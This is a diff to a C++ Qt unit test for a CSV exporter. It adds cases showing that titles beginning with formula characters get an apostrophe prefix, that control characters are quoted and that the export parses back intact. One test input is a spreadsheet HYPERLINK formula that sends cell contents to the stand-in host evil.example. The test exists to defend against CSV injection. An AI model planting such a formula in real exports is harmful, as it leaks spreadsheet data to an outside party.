@@ -1,6 +1,7 @@
 #include "Fixtures.h"
 #include "TestHarness.h"
 #include "core/library/ExportService.h"
+#include "core/library/MetadataImport.h"
 
 #include <QDir>
 #include <QLocale>
@@ -48,8 +49,38 @@ private Q_SLOTS:
         QTest::newRow("line feed") << "1\n2" << none << none << QByteArray("b.pdf,3,1,\"1\n2\",0,,,,,,,,");
         QTest::newRow("carriage return")
             << "1\r2" << none << none << QByteArray("b.pdf,3,1,\"1\r2\",0,,,,,,,,");
-        QTest::newRow("tab, blanks, formula")
-            << "=\t x " << none << none << QByteArray("b.pdf,3,1,=\t x ,0,,,,,,,,");
+        // What a spreadsheet would run gets an apostrophe; an apostrophe of the title's own is kept as is
+        // unless the reader would take it for ours.
+        QTest::newRow("formula, tab, blanks")
+            << "=\t x " << none << none << QByteArray("b.pdf,3,1,'=\t x ,0,,,,,,,,");
+        QTest::newRow("link formula")
+            << "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" << none << none
+            << QByteArray(
+                   "b.pdf,3,1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",0,,,,,,,,");
+        QTest::newRow("plus") << "+1" << none << none << QByteArray("b.pdf,3,1,'+1,0,,,,,,,,");
+        QTest::newRow("minus") << "-x" << none << none << QByteArray("b.pdf,3,1,'-x,0,,,,,,,,");
+        QTest::newRow("at") << "@SUM(A1)" << none << none << QByteArray("b.pdf,3,1,'@SUM(A1),0,,,,,,,,");
+        QTest::newRow("tab first") << "\tx" << none << none << QByteArray("b.pdf,3,1,'\tx,0,,,,,,,,");
+        QTest::newRow("carriage return first")
+            << "\rx" << none << none << QByteArray("b.pdf,3,1,\"'\rx\",0,,,,,,,,");
+        QTest::newRow("apostrophe before formula")
+            << "'=x" << none << none << QByteArray("b.pdf,3,1,''=x,0,,,,,,,,");
+        QTest::newRow("own apostrophe")
+            << "'Round Midnight" << none << none << QByteArray("b.pdf,3,1,'Round Midnight,0,,,,,,,,");
+        QTest::newRow("two apostrophes") << "''=x" << none << none << QByteArray("b.pdf,3,1,'''=x,0,,,,,,,,");
+        QTest::newRow("formula sign inside")
+            << "a=b-c" << none << none << QByteArray("b.pdf,3,1,a=b-c,0,,,,,,,,");
+        QTest::newRow("vertical tab") << "1\v2" << none << none << QByteArray("b.pdf,3,1,\"1\v2\",0,,,,,,,,");
+        QTest::newRow("form feed") << "1\f2" << none << none << QByteArray("b.pdf,3,1,\"1\f2\",0,,,,,,,,");
+        QTest::newRow("next line") << "1\u00852" << none << none
+                                   << QByteArray("b.pdf,3,1,\"1\xc2\x85"
+                                                 "2\",0,,,,,,,,");
+        QTest::newRow("line separator") << "1\u20282" << none << none
+                                        << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa8"
+                                                      "2\",0,,,,,,,,");
+        QTest::newRow("paragraph separator") << "1\u20292" << none << none
+                                             << QByteArray("b.pdf,3,1,\"1\xe2\x80\xa9"
+                                                           "2\",0,,,,,,,,");
         QTest::newRow("non-ASCII") << "\u00e9\U0001D11E" << none << none
                                    << QByteArray("b.pdf,3,1,\xc3\xa9\xf0\x9d\x84\x9e,0,,,,,,,,");
         QTest::newRow("4 and a year")
@@ -81,6 +112,10 @@ private Q_SLOTS:
         const QByteArray text = ExportService::csvText({e});
         QLocale::setDefault(QLocale::c());
         QCOMPARE(text, header + '\n' + line);
+        // and reads back as it was
+        const auto records = MetadataImport::parseCSV(text);
+        QVERIFY(records && records.value().size() == 1);
+        QCOMPARE(records.value().first().title, std::optional(title));
     }
 
     void emptyListIsHeaderOnly() { QCOMPARE(ExportService::csvText({}), header); }
